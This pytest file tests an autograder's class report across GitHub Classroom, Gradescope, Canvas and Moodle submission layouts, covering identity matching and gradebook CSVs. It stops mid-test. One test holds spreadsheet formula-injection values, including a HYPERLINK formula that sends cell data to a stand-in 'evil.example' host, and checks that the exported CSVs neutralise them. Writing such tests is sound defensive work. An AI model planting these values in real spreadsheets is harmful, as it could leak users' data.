"""Every layout a class's submissions really come in, graded with the right score on a row that names the learner.

Each roster is built from the solution, the untouched stub and a planted mistake of one
challenge, laid out as the platform lays it out: a GitHub Classroom clone, Gradescope's
"Export Submissions" zip, Canvas's and Moodle's "Download Submissions", a folder of zips,
a zip of one bare main.py. The Canvas and Moodle gradebooks are read back against each
platform's documented import columns (grader/classroom/lms_gradebooks.py cites them).
"""
import csv
import html.parser
import io
import json
import os
import re
import shutil
import types
import zipfile

import pytest

from classroom import roster_digest, write_learner
from helpers import ROOT, copy_course, learners_own, run_grade, solution, stub, with_limits

CHALLENGE = "challenge_3_activations"
PLANTED = ("1 / (1 + np.exp(-inputs))", "1 / (1 + np.exp(inputs))", "sigmoid")   # the sign of sigmoid flipped
MAX = 11


def _sources():
    right = learners_own(CHALLENGE)
    return {"full": right, "stub": stub(CHALLENGE).read_text(), "planted": right.replace(*PLANTED[:2], 1)}


def _report(roster, out, *extra, cwd=ROOT):
    # One grading process: these rosters are a few submissions, and grading in several processes is
    # test_class_report's; a second process here only costs the start of a Python, a course and NumPy.
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", CHALLENGE, *extra, cwd=cwd,
                          timeout=600)
    assert completed.returncode == 0, completed.stderr[-3000:]
    rows = json.loads((out / "results.json").read_text())["learners"]
    return completed, {row["learner"]: row for row in rows}


def _short_checks(folder):
    """A copy of the course whose checks of CHALLENGE may each run half a second: a learner's endless loop spins
    until its check's limit, and the default limit is tested on its own."""
    return with_limits(copy_course(folder), CHALLENGE, check_seconds=0.5)


def _page_notes(out):
    """{learner: the notes under their name on the class page}."""
    notes, learner, note = {}, None, None

    class Rows(html.parser.HTMLParser):
        def handle_starttag(self, tag, attrs):
            nonlocal learner, note
            if tag == "th" and ("scope", "row") in attrs:
                learner = ""
            elif tag == "div" and learner is not None and {"why", "note"} & set((dict(attrs).get("class") or "").split()):
                note = ""

        def handle_endtag(self, tag):
            nonlocal learner, note
            if tag == "div" and note is not None:
                notes[learner].append(note)
                note = None
            elif tag == "th":
                learner = None

        def handle_data(self, data):
            nonlocal learner, note
            if note is not None:
                note += data
            elif learner == "":
                learner = data
                notes[learner] = []

    Rows().feed((out / "index.html").read_text(encoding="utf-8"))
    return notes


def _assert_graded(rows, expected):
    """expected: {learner: "full" | "stub" | "planted"}; every learner on a row of their own."""
    assert set(expected) <= set(rows), sorted(rows)
    for learner, kind in expected.items():
        (item,) = rows[learner]["challenges"]
        assert "result" in item, (learner, item.get("problem"))
        result = item["result"]
        if kind == "full":
            assert result["score"] == result["max_score"] == MAX and item["state"] == "full", learner
        elif kind == "stub":
            assert result["score"] == 0 and item["state"] == "not-started", learner
        else:
            checks = {check["id"]: check for check in result["checks"]}
            assert checks[PLANTED[2]]["status"] == "failed" and 0 < result["score"] < MAX, learner
            assert item["state"] == "attempted", learner
        assert rows[learner]["total"] == result["score"]


def _read_csv(path):
    with open(path, newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file))


def test_a_learner_s_one_file_or_zip_is_named_by_the_class_list_as_a_folder_is(tmp_path):
    """A roster entry may be the learner's one file (dave.py, carol.ipynb) or a .zip of their folder: its name
    without the suffix is their id, as a folder's name is."""
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "bob", {f"{CHALLENGE}/main.py": sources["full"].encode()}, False)
    import nbformat

    (roster / "dave.py").write_text(sources["planted"])
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(sources["full"])]),
                   str(roster / "carol.ipynb"))
    write_learner(roster, "erin", {f"{CHALLENGE}/main.py": sources["full"].encode()}, True)
    class_list = tmp_path / "canvas.csv"
    class_list.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                          '"Jones, Bob",1002,bob,bob,S1\n"Lee, Carol",1003,carol,carol,S1\n'
                          '"Dunn, Dave",1004,dave,dave,S1\n"Erin, Erin",1005,erin,erin,S1\n')
    completed, rows = _report(roster, tmp_path / "out", "--class-list", class_list, "--gradebook", "canvas")
    _assert_graded(rows, {"Jones, Bob": "full", "Lee, Carol": "full", "Dunn, Dave": "planted",
                          "Erin, Erin": "full"})
    assert "Not on the class list" not in completed.stderr and "No entry in the roster" not in completed.stderr
    gradebook = {row[0]: row for row in _read_csv(tmp_path / "out" / "gradebook-canvas.csv")}
    assert {"Jones, Bob", "Lee, Carol", "Dunn, Dave", "Erin, Erin"} <= set(gradebook)


def test_a_github_classroom_clone_is_named_by_the_class_list(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    # GitHub user evil-carol's clone ends in carol's username; erin handed in nothing under her own, but GitHub user
    # not-erin's clone ends in hers.
    for username, kind in (("alice-s", "full"), ("bob", "stub"), ("carol", "planted"), ("evil-carol", "full"),
                           ("mallory", "full"), ("not-erin", "full")):
        write_learner(roster, f"nnfs-backprop-{username}", {f"challenges/{CHALLENGE}/main.py": sources[kind].encode()},
                      False)
    class_list = tmp_path / "classroom_roster.csv"
    # GitHub Classroom's roster export: identifier, github_username, github_id, name.
    class_list.write_text("identifier,github_username,github_id,name\n"
                          "Alice Smith,alice-s,101,\nbob@example.edu,bob,102,\nCarol Jones,carol,103,\n"
                          "Dan Brown,,,\nErin Gray,erin,104,\n")
    completed, rows = _report(roster, tmp_path / "out", "--class-list", class_list)
    _assert_graded(rows, {"Alice Smith": "full", "bob@example.edu": "stub", "Carol Jones": "planted",
                          "nnfs-backprop-not-erin": "full"})
    for impostor in ("mallory", "evil-carol", "not-erin"):
        assert rows[f"nnfs-backprop-{impostor}"]["identity"]["listed"] is False
    assert ("Not on the class list: 3 entries (nnfs-backprop-evil-carol/; nnfs-backprop-mallory/; "
            "nnfs-backprop-not-erin/)") in completed.stderr
    assert "No entry in the roster: 2 learners on the class list (Dan Brown; Erin Gray)" in completed.stderr
    assert "Not graded:" not in completed.stderr   # no entry of theirs was refused: they have none
    assert "Matched by the end of a folder's name alone" not in completed.stderr
    assert rows["Dan Brown"]["total"] is None and "no entry in the roster" in rows["Dan Brown"]["problem"]
    grades = {row[0]: row for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert grades["Dan Brown"][5] == grades["Erin Gray"][5] == "" and grades["Alice Smith"][5] == "11"
    assert ("ends in erin, the GitHub username of Erin Gray on the class list, but it is the clone of nnfs-backprop "
            "of GitHub user not-erin") in grades["nnfs-backprop-not-erin"][-1]
    assert "the GitHub username of Carol Jones" in grades["nnfs-backprop-evil-carol"][-1]
    assert grades["Carol Jones"][-1] == grades["Alice Smith"][-1] == ""
    page = _page_notes(tmp_path / "out")
    assert page["nnfs-backprop-not-erin"] == ["not on the class list"]
    assert page["Carol Jones"] == page["Alice Smith"] == []
    # Who handed in nothing has a cell of no submission, as an empty folder has: nothing there failed to be graded.
    index = (tmp_path / "out" / "index.html").read_text()
    dan_row = index.split(">Dan Brown</a>")[1].split("</tr>")[0]
    assert "–" in dan_row and "not graded" not in dan_row, dan_row
    # The three clones of full marks are rows of the table, not learners of the class its statistics describe.
    index = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    assert ("3 entries not on the class list or of its staff, left out of the statistics"
            in index)
    assert re.search(r"<span>90–100%</span>\s*<div class=\"track\">.*?</div>\s*<span class=\"num\">1</span>", index)


def test_the_github_classroom_assignment_is_said_when_guessed_and_kept_when_named(tmp_path):
    """Two impostors' clones (GitHub users evil-alice, evil-bob) outnumber carol's: the guess makes hw1-evil the
    assignment, and says so. Named with --assignment, the clones are read as hw1's, and later runs into the folder
    read them so too; an assignment that names no folder is warned of."""
    roster, sources, out = tmp_path / "roster", _sources(), tmp_path / "out"
    for folder in ("hw1-evil-alice", "hw1-evil-bob", "hw1-carol"):
        write_learner(roster, folder, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    class_list = tmp_path / "classroom_roster.csv"
    class_list.write_text("identifier,github_username,github_id,name\nAlice A,alice,101,\nBob B,bob,102,\n"
                          "Carol C,carol,103,\n")
    guessed, _ = _report(roster, out, "--class-list", class_list)
    assert ("WARNING: The folders named hw1-evil-<username> were read as GitHub Classroom's clones of the assignment "
            "hw1-evil, a guess from the folders' names, which leaves out 1 folder whose name ends in a listed "
            "username") in guessed.stderr and "Give --assignment" in guessed.stderr
    page = html.unescape((out / "index.html").read_text())
    assert "a guess from the folders' names, which leaves out 1 folder" in page
    named, rows = _report(roster, out, "--assignment", "hw1")
    assert "a guess" not in named.stderr
    assert rows["Carol C"]["total"] == MAX and rows["Alice A"]["total"] is rows["Bob B"]["total"] is None
    assert rows["hw1-evil-alice"]["identity"]["listed"] is False
    again, rows_again = _report(roster, out)
    assert "The GitHub Classroom assignment hw1, given to an earlier run into this folder, was used again" in again.stderr
    assert rows_again.keys() == rows.keys() and rows_again["Carol C"]["total"] == MAX
    wrong, _ = _report(roster, out, "--assignment", "hw2")
    assert ("WARNING: The GitHub Classroom assignment hw2 (--assignment) names no entry of the roster"
            in wrong.stderr)
    after, _ = _report(roster, out)    # the slip is not kept: the assignment named before it is
    assert "The GitHub Classroom assignment hw1, given to an earlier run into this folder, was used again" \
        in after.stderr
    # Repositories named lab-1-forward-<username>, graded as lab-1's: none is the clone of a listed user.
    write_learner(tmp_path / "lab", "lab-1-forward-carol",
                  {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    short, _ = _report(tmp_path / "lab", tmp_path / "lab-out", "--class-list", class_list, "--assignment", "lab-1")
    assert "WARNING: The GitHub Classroom assignment lab-1 (--assignment) starts folders' names, but" in short.stderr
    refused = run_grade("report", roster, "--out", out, "--assignment", "hw 1", cwd=ROOT)
    assert refused.returncode == 2 and "cannot start a GitHub repository's name" in refused.stderr


def test_an_earlier_run_s_assignment_is_said_when_used_and_warned_of_where_it_leaves_out_clones(tmp_path):
    sources, out = _sources(), tmp_path / "out"
    class_list = tmp_path / "classroom_roster.csv"
    class_list.write_text("identifier,github_username,github_id,name\nAlice A,alice,101,\nBob B,bob,102,\n")
    for roster, folders in (("hw1", ["hw1-alice", "hw1-bob"]), ("hw1-submissions", ["hw1-alice", "hw1-bob"]),
                            ("hw2", ["hw2-alice", "hw2-bob", "hw1-alice"]),
                            ("retake", ["hw1-retake-alice", "hw1-retake-bob", "hw1-alice"])):
        for folder in folders:
            write_learner(tmp_path / roster, folder, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()},
                          False)
            (tmp_path / roster / folder / ".git").mkdir()
    _report(tmp_path / "hw1", out, "--class-list", class_list, "--assignment", "hw1")
    # gh classroom clone's folder names the same assignment: the earlier run's is the one used.
    again, _ = _report(tmp_path / "hw1-submissions", out)
    assert "The GitHub Classroom assignment hw1, given to an earlier run into this folder, was used again" \
        in again.stderr
    # The next assignment's clones (or a retake's), and a leftover clone of hw1: the earlier run's assignment is
    # used, and a guess would read another.
    for roster, guess in (("hw2", "hw2"), ("retake", "hw1-retake")):
        later, _ = _report(tmp_path / roster, out, "--replace")
        assert ("WARNING: The folders named hw1-<username> were read as GitHub Classroom's clones of the assignment "
                f"hw1, the one an earlier run into this folder was given, though more folders name a listed user "
                f"after {guess}- (2) than after hw1- (1)") in later.stderr
        # A retake's clones look like those of GitHub users named retake-alice: the warning names both readings.
        assert ("or of GitHub users whose names start with retake-" in later.stderr) == (roster == "retake")
        assert ("which leaves out 2 folders" in later.stderr) == (roster == "hw2")
    # The same roster again, as the earlier run read it, leaving out the same folders: nothing to warn of.
    again, _ = _report(tmp_path / "hw2", tmp_path / "out2", "--class-list", class_list, "--assignment", "hw2")
    assert "WARNING: The folders named" not in again.stderr
    again, _ = _report(tmp_path / "hw2", tmp_path / "out2")
    assert "was used again" in again.stderr and "WARNING: The folders named" not in again.stderr


def test_a_github_classroom_roster_s_identifiers_reach_grades_csv_and_the_lms_gradebooks(tmp_path):
    """A roster identifier is an e-mail, a student id or a name, as the teacher filled the roster."""
    roster, sources = tmp_path / "roster", _sources()
    for username in ("alice", "bob", "carol"):
        write_learner(roster, f"hw-1-{username}", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()},
                      False)
    class_list = tmp_path / "classroom_roster.csv"
    class_list.write_text("identifier,github_username,github_id,name\nalice@uni.edu,alice,101,Alice A\n"
                          "s2002,bob,102,Bob B\nCarol C,carol,103,\n")
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", class_list, "--gradebook", "canvas", "--gradebook",
                              "moodle")
    _assert_graded(rows, {"Alice A": "full", "Bob B": "full", "Carol C": "full"})
    assert rows["Alice A"]["identity"]["github"] == "alice" and rows["Bob B"]["identity"]["github"] == "bob"
    grades = {row[0]: row[2:4] for row in _read_csv(out / "grades.csv")[1:]}
    assert grades == {"Alice A": ["alice@uni.edu", ""], "Bob B": ["", "s2002"], "Carol C": ["", ""]}
    assert [row[:3] for row in _read_csv(out / "gradebook-canvas.csv")[2:]] == [["Bob B", "", "s2002"]]
    moodle = _read_csv(out / "gradebook-moodle.csv")[1:]
    assert [row[:3] for row in moodle] == [["Alice A", "alice@uni.edu", ""]], "as many e-mails as ids: by e-mail"
    assert "2 rows with no Canvas ID, SIS User ID or SIS Login ID (Alice A; Carol C)" in completed.stderr


def _gradescope_export(path, submissions, first=1001):
    """Gradescope's "Export Submissions": submission_metadata.yml and one submission_<id>/ folder each, numbered from
    `first`."""
    metadata = []
    with zipfile.ZipFile(path, "w") as archive:
        for number, (name, email, sid, when, files) in enumerate(submissions, first):
            folder = f"assignment_4242_export/submission_{number}"
            metadata.append(f"submission_{number}:\n  :submitters:\n  - :name: {name}\n"
                            f"    :sid: '{sid}'\n    :email: {email}\n  :created_at: {when}\n  :score: 0.0\n"
                            "  :status: processed\n  :history: []\n")
            for member, data in files.items():
                archive.writestr(f"{folder}/{member}", data)
        archive.writestr("assignment_4242_export/submission_metadata.yml", "".join(metadata))


def test_an_export_moved_deeper_than_its_unzipped_folder_is_named_where_nothing_was_graded(tmp_path):
    """The export is not read there (a learner's clone may hold such a file of its own), only named."""
    export = tmp_path / "submissions.zip"
    when = "2026-11-20 10:00:00.000000000 -08:00"
    _gradescope_export(export, [("Ada Lovelace", "ada@example.edu", "1815", when, {"main.py": _sources()["full"]}),
                                ("Alan Turing", "alan@example.edu", "1912", when, {"main.py": _sources()["stub"]})])
    with zipfile.ZipFile(export) as archive:
        archive.extractall(tmp_path / "downloads" / "unzipped")
    completed = run_grade("report", tmp_path / "downloads", "--out", tmp_path / "out", "-j", "1", "--challenge",
                          CHALLENGE, timeout=600)
    said = " ".join(completed.stderr.split())
    assert completed.returncode == 2 and "Nothing was graded" in said, completed.stderr[-3000:]
    folder = tmp_path / "downloads" / "unzipped" / "assignment_4242_export"
    assert (f"{folder} holds Gradescope's submission_metadata.yml: if it is the class's export, give grade report "
            f"{folder} itself.") in said, said


@pytest.mark.parametrize("unzipped", [False, True, "wrapped"], ids=["zip", "folder", "unzipped whole"])
def test_a_gradescope_export_is_graded_and_named_by_its_metadata(tmp_path, unzipped):
    sources = _sources()
    export = tmp_path / "submissions.zip"
    _gradescope_export(export, [
        ("Ada Lovelace", "ada@example.edu", "1815", "2026-11-20 10:00:00.000000000 -08:00",
         {"main.py": sources["full"]}),
        ("Alan Turing", "alan@example.edu", "1912", "2026-11-21 23:59:00.000000000 -0800",
         {"main.py": sources["planted"]}),
        ("Grace Hopper", "grace@example.edu", "1906", "2026-11-19 09:00:00.000000000 -08:00",
         {f"{CHALLENGE}/main.py": sources["stub"]}),
        ("Edsger Dijkstra", "ed@example.edu", "1930", "2026-11-19 09:00:00.000000000 -08:00",
         {"notes.txt": "I forgot the code"}),
    ])
    if unzipped:
        with zipfile.ZipFile(export) as archive:
            archive.extractall(tmp_path / "unzipped")
        export = tmp_path / "unzipped" / "assignment_4242_export"
        if unzipped == "wrapped":
            # The folder the .zip was unzipped into, its wrapping folder and all, is read as the .zip is.
            (tmp_path / "unzipped" / ".DS_Store").write_bytes(b"")
            export = export.parent
    out = tmp_path / "out"
    completed, rows = _report(export, out, "--gradebook", "canvas", "--gradebook", "moodle")
    assert "submission_metadata" not in " ".join(rows) and len(rows) == 4
    # Without Canvas's own list, its rows carry Gradescope's student ids as SIS User IDs: the summary says so.
    assert "have only the student id of Gradescope's export, written as the SIS User ID" in completed.stderr
    _assert_graded(rows, {"Ada Lovelace": "full", "Alan Turing": "planted", "Grace Hopper": "stub"})
    # The class's result in a line, as the class page gives it.
    mean = (MAX + rows["Alan Turing"]["total"]) / 3
    assert f"{CHALLENGE}: 3 files graded, mean {mean:.1f} of {MAX}, 1 with full marks, 1 not started." \
        in completed.stderr, completed.stderr
    assert rows["Ada Lovelace"]["identity"]["submitted_at"].startswith("2026-11-20T10:00:00")
    origin = rows["Ada Lovelace"]["challenges"][0]["origin"]
    assert origin.endswith("submission_1001/main.py") and "/:" not in origin, origin
    # grades.csv gives the times as a spreadsheet reads them, in UTC, an offset without its colon read too.
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")}
    column = grades["learner"].index("submitted_at_utc")
    assert [grades[name][column] for name in ("Ada Lovelace", "Alan Turing")] == ["2026-11-20 18:00:00",
                                                                                  "2026-11-22 07:59:00"]
    assert rows["Edsger Dijkstra"]["total"] is None and "nothing to grade" in rows["Edsger Dijkstra"]["problem"]
    # Moodle: matched on import by e-mail or ID number, one column per grade item.
    moodle = _read_csv(out / "gradebook-moodle.csv")
    assert moodle[0][:3] == ["Full name", "Email address", "ID number"]
    by_email = {row[1]: row for row in moodle[1:]}
    assert by_email["ada@example.edu"][2] == "1815" and float(by_email["ada@example.edu"][3]) == MAX
    assert "ed@example.edu" not in by_email, "nothing graded: a blank cell would clear the grade Moodle holds"
    # Canvas: Student, ID, SIS User ID, SIS Login ID, Section, then the assignments.
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert canvas[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert canvas[1][0].strip() == "Points Possible" and float(canvas[1][5]) == MAX
    assert len(canvas[0]) == 6, "only assignment columns after the five identity columns"
    by_sis = {row[2]: row for row in canvas[2:]}
    assert float(by_sis["1912"][5]) < MAX and "1930" not in by_sis


GROUP_METADATA = """submission_2001:
  :submitters:
  - :name: Fay Group
    :sid: '1006'
    :email: fay@uni.edu
  - :name: Gil Group
    :sid: '1007'
    :email: gil@uni.edu
  :created_at: 2026-11-20 11:00:00.000000000 -08:00
submission_2002:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
    :email: ada@uni.edu
  :created_at: 2026-11-20 12:00:00.000000000 -08:00
"""


@pytest.mark.parametrize("listed", [True, False], ids=["class-list", "no-class-list"])
def test_each_member_of_a_gradescope_group_submission_has_a_row_of_their_own_with_its_grade(tmp_path, listed):
    """Gradescope lists every member of a group among the submitters of its one submission."""
    sources, export = _sources(), tmp_path / "export"
    for folder, kind in (("submission_2001", "full"), ("submission_2002", "planted")):
        (export / folder).mkdir(parents=True)
        (export / folder / "main.py").write_text(sources[kind])
    (export / "submission_metadata.yml").write_text(GROUP_METADATA)
    class_list = tmp_path / "gradescope_roster.csv"
    class_list.write_text("First Name,Last Name,SID,Email,Role,Sections\nAda,Lovelace,1001,ada@uni.edu,Student,\n"
                          "Fay,Group,1006,fay@uni.edu,Student,\nGil,Group,1007,gil@uni.edu,Student,\n")
    out = tmp_path / "out"
    completed, rows = _report(export, out, *(["--class-list", class_list] if listed else []),
                              "--gradebook", "canvas", "--gradebook", "moodle")
    assert sorted(rows) == ["Ada Lovelace", "Fay Group", "Gil Group"], sorted(rows)
    _assert_graded(rows, {"Fay Group": "full", "Gil Group": "full", "Ada Lovelace": "planted"})
    assert rows["Fay Group"]["identity"]["emails"] == ["fay@uni.edu"] and rows["Gil Group"]["identity"]["sids"] == [
        "1007"]
    assert "Not on the class list" not in completed.stderr and "No entry in the roster" not in completed.stderr
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert [grades[name][2:6] for name in ("Fay Group", "Gil Group")] == [
        ["fay@uni.edu", "1006", "11", "11"], ["gil@uni.edu", "1007", "11", "11"]]
    assert "a group submission with Gil Group" in grades["Fay Group"][-1]
    moodle = _read_csv(out / "gradebook-moodle.csv")[1:]
    assert sorted(row[1:] for row in moodle if row[1] != "ada@uni.edu") == [
        ["fay@uni.edu", "1006", "11"], ["gil@uni.edu", "1007", "11"]]
    canvas = _read_csv(out / "gradebook-canvas.csv")[2:]
    assert sorted((row[2], row[5]) for row in canvas if row[2] != "1001") == [("1006", "11"), ("1007", "11")]
    assert len(list((out / "learners").glob("*.html"))) == 3
    assert _page_notes(out)["Gil Group"][0].startswith("a group submission with Fay Group")


def test_a_group_s_one_submission_is_counted_once_on_the_class_page_and_in_the_summary(tmp_path):
    """The members of a group each have a row and a grade, but the checks their one submission fails, its mistakes
    and the summary's count of submissions count it once; the note that names the group is not drawn as an
    error."""
    sources, export = _sources(), tmp_path / "export"
    for folder, kind in (("submission_2001", "planted"), ("submission_2002", "full")):
        (export / folder).mkdir(parents=True)
        (export / folder / "main.py").write_text(sources[kind])
    (export / "submission_metadata.yml").write_text(GROUP_METADATA)
    out = tmp_path / "out"
    completed, rows = _report(export, out, "--gradebook", "canvas")
    _assert_graded(rows, {"Fay Group": "planted", "Gil Group": "planted", "Ada Lovelace": "full"})
    assert "3 learners, 2 submissions:" in completed.stderr
    assert "Group submissions: 1, each graded once, the grade each member's (Fay Group and Gil Group)." in \
        completed.stderr
    index = html.unescape((out / "index.html").read_text(encoding="utf-8"))
    assert "· 1 submission (50%)" in index and "2 submissions (" not in index
    assert "· 1 time, most often" in index and "2 times" not in index
    assert '<option value="attempted">a challenge: attempted (1 submission)' in index
    assert re.search(r'<div class="note">a group submission with Gil Group', index)
    assert not re.search(r'<div class="why[^"]*">a group submission', index)
    # Each member's own page says whose submission the grade is of.
    page = html.unescape(next((out / "learners").glob("Fay-Group-*.html")).read_text(encoding="utf-8"))
    assert "A group submission with Gil Group: graded once, the grade each member's." in page
    assert "A group submission" not in next((out / "learners").glob("Ada-Lovelace-*.html")).read_text()
    # Each member keeps a row of their own in grades.csv and the gradebook.
    assert len(_read_csv(out / "grades.csv")) == 4 and len(_read_csv(out / "gradebook-canvas.csv")) == 5


def test_a_group_s_one_file_worth_a_look_is_named_once_with_its_members(tmp_path):
    sources, export = _sources(), tmp_path / "export"
    for folder, source in (("submission_2001", "def broken(:\n"), ("submission_2002", sources["full"])):
        (export / folder).mkdir(parents=True)
        (export / folder / "main.py").write_text(source)
    (export / "submission_metadata.yml").write_text(GROUP_METADATA)
    completed, _ = _report(export, tmp_path / "out")
    said = next(line for line in completed.stderr.splitlines() if line.startswith("Worth a look:"))
    assert said.startswith("Worth a look: 1 file ") and "(Fay Group and Gil Group: " in said, said


def test_a_name_made_to_look_like_a_classmates_takes_no_row_of_the_canvas_gradebook(tmp_path):
    sources, export = _sources(), tmp_path / "submissions.zip"
    when = "2026-11-20 10:00:00.000000000 -08:00"
    # Gradescope's folders follow the order of the submitters below: the impostor's comes first.
    _gradescope_export(export, [("Alice  Smith", "mallory@example.edu", "", when, {"main.py": sources["stub"]}),
                                ("Alice Smith", "alice@example.edu", "", when, {"main.py": sources["full"]}),
                                ("Carol Jones", "carol@example.edu", "", when, {"main.py": sources["planted"]})])
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Smith, Alice",1001,S1001,asmith,A\n'
                          '"Jones, Carol",1003,S1003,cjones,A\n')
    completed, rows = _report(export, tmp_path / "out", "--class-list", class_list, "--gradebook", "canvas")
    canvas = {row[1]: row for row in _read_csv(tmp_path / "out" / "gradebook-canvas.csv")[2:]}
    # Nothing graded: no row, which would clear the grade Canvas holds.
    assert "1001" not in canvas and "Matching the class list only ambiguously: 2 entries" in completed.stderr
    assert "Not on the class list" not in completed.stderr
    assert "1 row with nothing graded is left out too (Smith, Alice)" in completed.stderr
    assert float(canvas["1003"][5]) < MAX
    notes = {row[0]: row[-1] for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert "submission_1001/, " in notes["Smith, Alice"] and "match this learner equally well" in notes["Smith, Alice"]
    assert "matched to the class list by name alone" in notes["Jones, Carol"]
    assert _page_notes(tmp_path / "out")["Jones, Carol"] == [
        "matched to the class list by name alone: check that this entry is this learner's"]
    assert "Given to no entry: 1 learner on the class list (Smith, Alice)" in completed.stderr
    assert "Matched by name alone: 1 entry (Jones, Carol (submissions.zip:" in completed.stderr
    assert "No entry in the roster" not in completed.stderr


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_an_archive_that_cannot_be_read_is_one_file_in_the_summary_however_many_challenges_are_graded(tmp_path):
    roster, out = tmp_path / "roster", tmp_path / "out"
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": _sources()["full"]})
    (roster / "brokenbea_1007_50007_work.zip").write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "3", "--challenge", "1",
                          timeout=300)
    assert "1 file that could not be read (brokenbea)" in completed.stderr, completed.stderr[-3000:]


def test_the_class_report_keeps_every_field_of_a_check_that_grade_gives(tmp_path):
    """What a learner's own `grade --json` says of each check is what the class report keeps of it (a name the file
    lacks included), but for the file's name in what Python printed: the report grades a copy named main.py."""
    sources = _sources()
    files = {"lovelaceada_201_9001_main.py": sources["full"], "turingalan_202_9002_main.py": sources["planted"],
             "hoppergrace_203_9003_main.py": solution("challenge_7_training").read_text(),
             "liskovbarbara_205_9005_main.py": sources["stub"]}
    roster, out = tmp_path / "roster", tmp_path / "out"
    _canvas_files(roster, files)
    _, rows = _report(roster, out)
    for name in files:
        graded = run_grade(CHALLENGE, "--submission", roster / name, "--json")
        expected = json.loads(graded.stdout.replace(name, "main.py"))["checks"]
        (item,) = rows[name.split("_")[0]]["challenges"]
        assert item["result"]["checks"] == expected, name
    assert any(check.get("missing") for check in rows["hoppergrace"]["challenges"][0]["result"]["checks"])


def test_file_names_inside_an_entry_that_are_not_utf8_are_shown_as_escapes_in_every_output(tmp_path):
    # A folder (an unzipped download, a clone: git keeps a name's bytes) may hold names no output's encoding takes.
    roster = tmp_path / "roster"
    sources = _sources()
    write_learner(roster, "bob", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    beside, alone, archive = (os.path.join(os.fsencode(roster), name) for name in (b"carol", b"dave", b"erin"))
    clone = os.path.join(os.fsencode(roster), b"hw1-frank", b"challenges", CHALLENGE.encode())
    for folder in (beside, alone, archive, clone):
        os.makedirs(folder)
    for folder, name, data in [(beside, b"main.py", sources["stub"]), (beside, b"w\xfe.py", sources["full"]),
                               (alone, b"mine\xfe.py", sources["full"]), (archive, b"sub\xff.zip", "PK"),
                               (clone, b"main.py", sources["stub"]), (os.path.dirname(os.path.dirname(clone)),
                                                                     b"n\xf6tes.py", sources["full"])]:
        with open(os.path.join(folder, name), "wb") as file:
            file.write(data.encode())
    out = tmp_path / "out"
    completed, rows = _report(roster, out)
    _assert_graded(rows, {"bob": "full", "carol": "stub", "dave": "full", "hw1-frank": "stub"})
    notes = {row["learner"]: " ".join(item.get("note") or item.get("problem") or ""
                                      for item in row["challenges"]) for row in rows.values()}
    assert "w\\udcfe.py" in notes["carol"] and "mine\\udcfe.py" in notes["dave"], notes
    assert "sub\\udcff.zip" in notes["erin"] and "n\\udcf6tes.py" in notes["hw1-frank"], notes
    assert "w\\udcfe.py" in (out / "grades.csv").read_text(encoding="utf-8")
    pages = [page.read_text(encoding="utf-8") for page in (out / "learners").iterdir()]
    assert len(pages) == len(rows) and any("w\\udcfe.py" in page for page in pages)


def test_no_csv_of_the_report_holds_a_formula_from_a_learner_a_platform_or_a_class_list(tmp_path):
    sources, export = _sources(), tmp_path / "submissions.zip"
    _gradescope_export(export, [
        ("-2+3", "+ada@example.edu", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1",
         {"main.py": sources["full"]}),
        ("Alan Turing", "alan@example.edu", "S1001", "-1", {"main.py": sources["planted"]}),
        ("Grace Hopper", "=grace@example.edu", " @SUM(1+1)", "2026-11-19 09:00:00.000000000 -08:00",
         {"main.py": sources["full"]}),
    ])
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Turing, Alan",=2+3,S1001,@alan,-A\n'
                          '"=Hopper, Grace",1002,S1002,grace,A\n')
    out = tmp_path / "out"
    _report(export, out, "--class-list", class_list, "--gradebook", "canvas", "--gradebook", "moodle",
            "--similarity")
    written = sorted(path.name for path in out.glob("*.csv"))
    assert written == ["checks.csv", "gradebook-canvas.csv", "gradebook-moodle.csv", "grades.csv", "similarity.csv"]
    for name in written:
        for row in _read_csv(out / name):
            assert not [cell for cell in row if cell.lstrip(" \t\r\n").startswith(FORMULA_START)], (name, row)
    canvas = {row[2]: row for row in _read_csv(out / "gradebook-canvas.csv")[2:]}
    assert canvas["S1001"][:5] == ["Turing, Alan", "'=2+3", "S1001", "'@alan", "'-A"]


def test_canvas_download_submissions_with_a_late_one_and_a_resubmission(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    # <lastfirst>[_LATE]_<user id>_<submission id>_<file>; a re-submitted main.py comes back as main-1.py.
    (roster / "lovelaceada_201_9001_main.py").write_text(sources["full"])
    (roster / "turingalan_LATE_202_9002_main.py").write_text(sources["planted"])
    (roster / "hoppergrace_203_9003_main.py").write_text(sources["stub"])
    (roster / "hoppergrace_203_9003_main-1.py").write_text(sources["full"])
    with zipfile.ZipFile(roster / "dijkstraedsger_204_9004_submission.zip", "w") as archive:
        archive.writestr(f"{CHALLENGE}/main.py", sources["stub"])
    out = tmp_path / "out"
    _, rows = _report(roster, out, "--gradebook", "canvas")
    _assert_graded(rows, {"lovelaceada": "full", "turingalan": "planted", "hoppergrace": "full",
